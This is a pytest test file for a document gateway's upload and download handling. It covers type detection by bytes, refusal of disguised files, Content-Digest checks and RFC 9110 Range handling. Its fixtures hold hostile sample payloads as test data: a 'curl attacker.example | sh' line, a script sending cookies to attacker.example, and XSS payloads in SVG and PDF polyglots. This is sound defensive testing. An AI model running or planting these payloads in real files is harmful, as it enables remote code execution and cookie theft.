"""The catalogue: documents used as a weapon. What a party attaches is opened by the other party's
staff, so its type is read from its bytes (never from its name or Content-Type) and anything that
is not a document is refused; downloads are served so that no browser renders them as a page; and
Range headers, which make the gateway seek and decrypt, are served only as RFC 9110 and the
README say: one range, 416 outside the document, anything else ignored."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import zipfile

import pytest

from gateway import samples
from imr_alomrane_gateway_client.signing import content_digest
from tests.api.test_documents import stored_blobs, upload
from tests.conftest import institution_client
from tests.factories import case_payload, message
from tests.hostile.builders import app, database_url, engine_sql, settings  # noqa: F401 (one gateway for the module)

NAMED_AS_PDF = {"Content-Type": "application/pdf"}  # what the sender claims; the gateway does not believe it


def _zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


DISGUISED = {
    "a Windows executable": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 500,
    "an ELF executable": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 500,
    "a shell script": b"#!/bin/sh\ncurl https://attacker.example/x | sh\n",
    "an HTML page with a script": b"<!DOCTYPE html><html><script>fetch('https://attacker.example/'+document.cookie)</script></html>",
    "an SVG with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    "JavaScript": b"window.location = 'https://attacker.example/';\n",
    "a plain-text letter": "Objet : réclamation – شكاية".encode(),
    "a ZIP holding an executable": _zip_of("facture.pdf.exe", b"MZ" + b"\x00" * 200),
    "a gzip archive": gzip.compress(b"%PDF-1.4 hidden"),
    "a GIF image": b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x00" * 50,
    "a Java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 100,
    "PDF magic after an HTML prologue": b"<html><body>" + samples.pdf(["x"]),
    "PDF magic after whitespace": b"   \n" + samples.pdf(["x"]),
    "PDF magic cut short": b"%PD",
    "nothing at all": b"",
}


@pytest.fixture
def case_id(imr) -> str:
    return imr.post("/v1/cases", json=case_payload()).json()["id"]


@pytest.fixture
def blobs_unchanged(settings):
    """Blobs are outside the database: that a refusal left none behind is checked on disk."""
    before = set(stored_blobs(settings))
    yield
    assert set(stored_blobs(settings)) == before


@pytest.mark.parametrize("disguise", DISGUISED)
def test_what_is_not_a_document_is_refused_whatever_its_name_says(refusals, imr, case_id, blobs_unchanged, disguise):
    refusals.arranged()
    refused = upload(imr, case_id, DISGUISED[disguise], filename="contrat.pdf", **NAMED_AS_PDF)
    refusals.check(refused, 415, "document-type-refused")
    assert "application/pdf" in refused.json()["accepted"]


def test_a_document_is_typed_by_its_bytes_not_its_name(imr, case_id):
    """A PNG called .pdf and declared application/pdf is kept, and served, as the PNG it is."""
    document = upload(imr, case_id, samples.png(), filename="contrat.pdf", **NAMED_AS_PDF).json()
    assert document["media_type"] == "image/png"
    assert imr.get(document["content"]).headers["content-type"] == "image/png"


def test_a_pdf_carrying_a_script_is_served_so_that_no_browser_renders_it(imr, omrane, case_id):
    """A polyglot passes the type check (it is a PDF); what keeps it harmless is how it is served."""
    polyglot = samples.pdf(["x"]) + b"<html><script>alert(document.domain)</script></html>"
    document = upload(imr, case_id, polyglot, filename="page.html", **{"Content-Type": "text/html"}).json()
    served = omrane.get(document["content"])
    assert served.headers["content-type"] == "application/pdf" and served.headers["x-content-type-options"] == "nosniff"
    assert served.headers["content-disposition"].startswith("attachment;")


# --- what an upload must declare, and where it may go -------------------------------------------


LETTER = samples.pdf(["Quittance de loyer"])

UPLOAD_REFUSALS = {
    # Authentication comes first: unsigned, the missing digest is not what is wrong with it yet.
    "no Content-Digest, no signature": (lambda c, case: c.post(f"/v1/cases/{case}/documents", content=LETTER, auth=None,
                                                               headers={"Content-Disposition": "attachment; filename=a.pdf"}),
                                        401, "signature-missing"),
    "an MD5 Content-Digest only": (lambda c, case: upload(c, case, LETTER, **{"Content-Digest": "md5=:1B2M2Y8AsgTpgAmY7PhCfg==:"}),
                                   400, "content-digest-required"),
    "a sha-256 member of the wrong length": (lambda c, case: upload(c, case, LETTER, **{"Content-Digest": "sha-256=:AAAA:"}),
                                             400, "content-digest-malformed"),
    "a base64url sha-256 member": (
        lambda c, case: upload(c, case, LETTER, **{"Content-Digest": "sha-256=:" + base64.urlsafe_b64encode(hashlib.sha256(LETTER).digest()).decode() + ":"}),
        400, "content-digest-malformed"),
    "bytes other than the ones declared and signed": (
        lambda c, case: upload(c, case, LETTER, **{"Content-Digest": content_digest(LETTER + b"\n")}), 400, "content-digest-mismatch"),
    "a length over the document limit": (
        lambda c, case: upload(c, case, LETTER, **{"Content-Length": str(50 * 1024 * 1024 + 1), "Content-Digest": content_digest(LETTER)}),
        413, "payload-too-large"),
}


@pytest.mark.parametrize("refusal", UPLOAD_REFUSALS)
def test_an_upload_that_does_not_declare_its_bytes_honestly_is_refused(refusals, imr, case_id, blobs_unchanged, refusal):
    attempt, status, slug = UPLOAD_REFUSALS[refusal]
    refusals.arranged()
    refusals.check(attempt(imr, case_id), status, slug)


def _closed(imr, case_id):
    assert imr.post(f"/v1/cases/{case_id}/messages", json=message("closure", outcome="favourable")).status_code == 201


def _erased(imr, case_id):
    assert imr.delete(f"/v1/cases/{case_id}/personal-data").status_code == 200


ENDED = {"a closed case": (_closed, 409, "case-closed"), "an erased case": (_erased, 410, "personal-data-erased")}


@pytest.mark.parametrize("ended", ENDED)
def test_nothing_is_attached_to_a_case_that_has_ended(refusals, imr, omrane, case_id, ended, settings):
    end, status, slug = ENDED[ended]
    end(imr, case_id)
    refusals.arranged()
    before = set(stored_blobs(settings))
    for sender in (imr, omrane):
        refusals.check(upload(sender, case_id, LETTER), status, slug)
    assert set(stored_blobs(settings)) == before


def test_an_erased_document_is_gone_with_or_without_a_range(refusals, imr, case_id):
    content = upload(imr, case_id, LETTER).json()["content"]
    _erased(imr, case_id)
    refusals.arranged()
    for headers in ({}, {"Range": "bytes=0-9"}):
        refusals.check(imr.get(content, headers=headers), 410, "personal-data-erased")


# --- Range ---------------------------------------------------------------------------------------


DOCUMENT = samples.pdf(["Contrat de vente", "Annexe"], padding=150_000)  # three encrypted segments
SIZE = len(DOCUMENT)


@pytest.fixture(scope="module")
def content_url(app, test_pki) -> str:
    """One document for every Range test: reads change nothing."""
    imr = institution_client(app, test_pki, "imr")
    return upload(imr, imr.post("/v1/cases", json=case_payload()).json()["id"], DOCUMENT).json()["content"]


OUTSIDE = {
    "starting at the size": f"bytes={SIZE}-",
    "starting past the end": f"bytes={SIZE + 1000}-",
    "entirely past the end": f"bytes={SIZE + 10}-{SIZE + 20}",
    "starting at the size, ending there": f"bytes={SIZE}-{SIZE}",
    "the last zero bytes": "bytes=-0",
}


@pytest.mark.parametrize("outside", OUTSIDE)
def test_a_range_outside_the_document_is_416(refusals, imr, content_url, outside):
    refusals.arranged()
    refused = imr.get(content_url, headers={"Range": OUTSIDE[outside]})
    refusals.check(refused, 416, "range-not-satisfiable")
    assert refused.headers["content-range"] == f"bytes */{SIZE}"


IGNORED = {
    "two ranges": {"Range": "bytes=0-1,5-9"},
    "a thousand overlapping ranges": {"Range": "bytes=" + ",".join(["0-65535"] * 1000)},
    "a reversed range": {"Range": "bytes=9-2"},
    "another unit": {"Range": "items=0-5"},
    "no numbers": {"Range": "bytes=-"},
    "nothing after the unit": {"Range": "bytes="},
    "letters for numbers": {"Range": "bytes=a-b"},
    "a negative start": {"Range": "bytes=--5"},
    "spaces around the equals sign": {"Range": "bytes = 0-5"},
    "an If-Range naming another version": {"Range": "bytes=0-5", "If-Range": '"another"'},
    "an If-Range that is a date": {"Range": "bytes=0-5", "If-Range": "Tue, 01 Dec 2026 10:00:00 GMT"},
}


@pytest.mark.parametrize("ignored", IGNORED)
def test_a_range_the_gateway_does_not_serve_gets_the_whole_document(imr, content_url, ignored):
    """Ignoring a Range is always allowed (RFC 9110 §14.2); serving several at once is how
    range requests amplify a download."""
    whole = imr.get(content_url, headers=IGNORED[ignored])
    assert whole.status_code == 200 and "content-range" not in whole.headers
    assert whole.content == DOCUMENT and whole.headers["content-digest"] == content_digest(DOCUMENT)


CLIPPED = {
    "a suffix longer than the document": (f"bytes=-{SIZE * 10}", 0, SIZE),
    "an end past the document": (f"bytes=70000-{SIZE * 10}", 70000, SIZE),
    "the last byte": (f"bytes={SIZE - 1}-{SIZE - 1}", SIZE - 1, SIZE),
    "a range with 19-digit numbers": (f"bytes=0-{'9' * 19}", 0, SIZE),
}


@pytest.mark.parametrize("clipped", CLIPPED)
def test_a_range_reaching_past_the_end_is_served_up_to_it(imr, content_url, clipped):
    header, start, end = CLIPPED[clipped]
    part = imr.get(content_url, headers={"Range": header})
    assert part.status_code == 206 and part.content == DOCUMENT[start:end]
    assert part.headers["content-range"] == f"bytes {start}-{end - 1}/{SIZE}"
    assert part.headers["content-digest"] == content_digest(DOCUMENT[start:end])
